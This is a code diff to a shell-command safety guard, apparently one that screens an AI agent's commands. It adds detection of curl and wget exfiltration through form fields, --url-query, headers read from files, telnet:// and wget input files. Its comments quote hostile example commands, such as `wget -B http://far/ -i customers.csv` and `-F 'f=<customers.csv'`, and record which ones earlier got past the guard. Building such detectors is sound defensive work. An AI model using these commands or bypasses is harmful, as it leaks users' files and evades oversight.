@@ -29,6 +29,11 @@ _CLEAN = lazyre.compile(r"\$\((?:date(?: (?:\+[\w%:.,/-]+|'\+[^'$`]*'|\"\+[^\"$`
                     r"git describe(?: --tags| --always| --dirty)*|uname(?: -[a-z]+)?|nproc|arch)\)")
 
 
+_ANY_URL = lazyre.compile(r"[a-zA-Z][\w+.-]*://")
+# a substitution that only echoes literal words: its output is those words (test_confinement51's twin `-X "$(echo GET)"`)
+_ECHOED = lazyre.compile(r"\$\(\s*(?:echo|printf)(?:\s+(?:'[^'$`\\]*'|\"[^\"$`\\]*\"|[^\s$`'\"();|&<>\\]+))*\s*\)")
+
+
 def _is_dynamic(word: str) -> bool:
     return "$" in word or "`" in word
 
@@ -38,11 +43,15 @@ def _computed(word: str, clean: re.Pattern[str] | None) -> bool:
     return _is_dynamic(clean.sub("", word)) if clean is not None and "$(" in word else _is_dynamic(word)
 
 
+def clean_pattern(an: Analyzer) -> re.Pattern[str] | None:
+    """``_CLEAN``, where ``date`` and the rest are the system's: the session has not put its own first (a function, a
+    PATH directory)."""
+    return None if an.path_dirs or {"date", "uuidgen", "git", "uname", "nproc", "arch"} & set(an.functions) else _CLEAN
+
+
 def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: SimpleCommand) -> None:
     r = an.r
-    # `date` is the system's only while the session has not put its own first (a function, a PATH directory)
-    clean = None if an.path_dirs or {"date", "uuidgen", "git", "uname", "nproc", "arch"} & set(an.functions) \
-        else _CLEAN
+    clean = clean_pattern(an)
     for a in args:
         if m := R.URL.search(a):
             r.hosts.append(m.group("host"))
@@ -68,27 +77,89 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         data += [a.split("=", 1)[1] for a in upload if "=" in a]
         data += [a[2:] for a in args if re.match(r"-[dFT]\S", a)]
         # curl's --data-urlencode NAME@FILE sends FILE's content (rt48c: `--data-urlencode d@diary.txt` read as text)
-        named = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--data-urlencode"]
-        if any(re.match(r"[^=@]+@", d) for d in named) or \
+        named = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--data-urlencode", "--url-query")]
+        named += [a.split("=", 1)[1] for a in args if a.startswith("--url-query=")]  # `+@FILE`: not encoded
+        if any(re.match(r"\+?[^=@]*@", d) for d in named) or \
                 any(d.startswith("@") or "=@" in d or "<" in d[:1] for d in data) or "--upload-file" in args or \
+                any(re.match(r"[^=]*=<", f) for f in _forms(args)) or \
                 "-T" in args or "--post-file" in " ".join(args) or "--body-file" in " ".join(args):
             r.add("exfiltration", f"{prog} uploads a local file")
-        if any(_computed(d, clean) for d in data) or any(R.URL.search(a) and _computed(a, clean) and "$(" in a
-                                                          for a in args):
+        if any(_computed(d, clean) for d in data) or any(_ANY_URL.search(a) and _computed(a, clean) and "$(" in a
+                                                          for a in args):  # rt53: `gopher://h/_$(cat f)` too
             r.add("exfiltration", f"{prog} sends data computed from the machine")
         headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-H", "--header", "--proxy-header")]
         headers += [a.split("=", 1)[1] for a in args if a.startswith(("--header=", "--proxy-header="))]
-        if any(h.startswith("@") or "`" in h or "$(" in h and _computed(h, clean) or "<(" in h for h in headers):
+        # rt53: a value read from a file when it runs (`read -r T < customers.csv`, `T=$(tail -1 customers.csv)`): its
+        # text goes out in a header as `-H "X: $(cat …)"` would
+        read = [re.compile(re.escape(raw) + r"(?!\w)") for refs in cmd.from_files.values() for raw in refs]
+
+        def from_a_file(word: str) -> bool:
+            return any(p.search(word) for p in read)
+
+        if any(h.startswith("@") or "`" in h or "$(" in h and _computed(h, clean) or "<(" in h or from_a_file(h)
+               for h in headers):
             r.add("exfiltration", f"{prog} sends a local file or computed data in its headers")
+        sent = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.SENT_VALUES[prog]]
+        sent += [a.split("=", 1)[1] for a in args if a.startswith("--") and a.split("=", 1)[0] in R.SENT_VALUES[prog]
+                 and "=" in a]
+        unechoed = [_ECHOED.sub("", v) for v in sent]  # `-X "$(echo GET)"`: literal words, no local data
+        if any("`" in v or "$(" in v and _computed(v, clean) or "<(" in v for v in unechoed) or \
+                any(from_a_file(v) for v in sent):
+            r.add("exfiltration", f"{prog} sends computed data as a header's or the request's value")
+        files = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.SENT_FILES[prog]]
+        files += [a.split("=", 1)[1] for a in args if a.startswith("--") and a.split("=", 1)[0] in R.SENT_FILES[prog]
+                  and "=" in a]
+        if any("=" not in f or not f.split("=", 1)[0].strip() or _is_dynamic(f) for f in files if f):
+            r.add("dynamic", f"{prog} sends cookies or a login read from a file: what it sends is only known when it "
+                             "runs")
         if prog == "curl" and any(a in ("-K", "--config") or a.startswith("--config=") or re.match(r"-[a-zA-Z]*K", a)
                                   for a in args):  # rt51: `curl -qK- < args.txt`, `-sK args.txt`
             r.add("dynamic", "curl reads its options from a file: what it sends, and where, is only known when it runs")
+        if prog == "wget":
+            _wget_inputs(an, args, cmd)
+        if prog == "curl" and any(a.lower().startswith("telnet://") for a in args):  # rt53: curl's telnet:// sends
+            r.add("network", "curl telnet:// opens a raw connection that sends what it reads on its input")  # its stdin
+            if any(op in ("<", "<<<") for op, _ in cmd.redirects) or cmd.heredoc:
+                r.add("exfiltration", "curl telnet:// sends a file over the network")
+        if prog == "wget" and any(a == "--config" or a.startswith("--config=") for a in args):  # rt53: `--config=wrc`
+            # holding `post_file = notes.txt` uploaded it, approved (WGETRC=wrc was asked)
+            r.add("dynamic", "wget reads its settings from a file: what it sends, and where, is only known when it runs")
     if prog in _SENDS and (fed := _fed_arguments(cmd)):
         r.add("exfiltration", f"{posixpath.basename(cmd.argv[0])} turns {fed} into {prog}'s arguments")
     if prog in ("dig", "nslookup", "host", "ping", "drill") and any("$(" in a or "`" in a for a in args):
         r.add("exfiltration", f"{prog} leaks data through DNS names")
     if prog in ("mail", "sendmail", "mutt", "mailx"):
         r.add("exfiltration", f"{prog} sends mail")
+
+
+def _forms(args: list[str]) -> list[str]:
+    """curl's ``-F``/``--form`` values: ``name=<FILE`` sends FILE's text as the field (rt53: `-F 'f=<customers.csv'`
+    was approved; ``=@`` was refused)."""
+    return [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-F", "--form")] + \
+        [a.split("=", 1)[1] for a in args if a.startswith("--form=")]
+
+
+def _wget_inputs(an: Analyzer, args: list[str], cmd: SimpleCommand) -> None:
+    """``wget -i FILE``: each line of FILE is an address it asks for, under ``--base`` where one is given. rt53:
+    ``wget -B http://far/ -i customers.csv`` and ``sed 's|^|http://far/|' customers.csv | wget -i -`` sent each row as
+    a path, approved. With a base, the file's text goes to that server (refused, as ``xargs curl < FILE``); without,
+    the lines are judged as the addresses they are, and a file the guard cannot read as it will be is asked about."""
+    from macrohard.safety import filewords
+
+    inputs = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-i", "--input-file")]
+    inputs += [a.split("=", 1)[1] for a in args if a.startswith("--input-file=")]
+    based = any(a in ("-B", "--base") or a.startswith("--base=") for a in args)
+    for name in inputs:
+        if based:
+            an.r.add("exfiltration", f"wget sends each line of {name[:40]} as an address under --base")
+            continue
+        text, why = (None, "its input, only known when it runs") if name in ("-", "/dev/stdin") or _is_dynamic(
+            name) or name.startswith(("/dev/", "/proc/", "<(")) else filewords.text_at(an, name, cmd.cwd)
+        if text is None and why != "absent":
+            an.r.add("dynamic", f"wget reads its addresses from {name[:40]} ({why}): where it sends, and what, is only "
+                                "known when it runs")
+        elif text is not None:
+            an.r.hosts += [m.group("host") for line in text.splitlines() if (m := R.URL.search(line))]
 
 
 def _stage_program(argv: list[str]) -> str:
